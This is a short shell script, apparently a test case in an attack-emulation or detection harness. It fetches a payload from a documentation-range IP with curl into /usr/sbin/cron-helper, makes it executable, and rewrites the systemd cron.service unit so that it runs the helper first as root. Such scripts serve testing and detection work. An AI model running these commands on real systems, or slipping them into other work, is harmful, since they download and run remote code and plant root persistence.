#!/bin/sh
. /opt/case/case.sh

u=/lib/systemd/system/cron.service; test -s $u
curl -s -o /usr/sbin/cron-helper http://203.0.113.10/payload.sh && chmod 755 /usr/sbin/cron-helper
sed -i 's#^ExecStart=\(.*\)#ExecStart=/bin/sh -c "/usr/sbin/cron-helper; exec \1"#; s/^User=.*/User=root/' $u
grep -q cron-helper $u
took_place
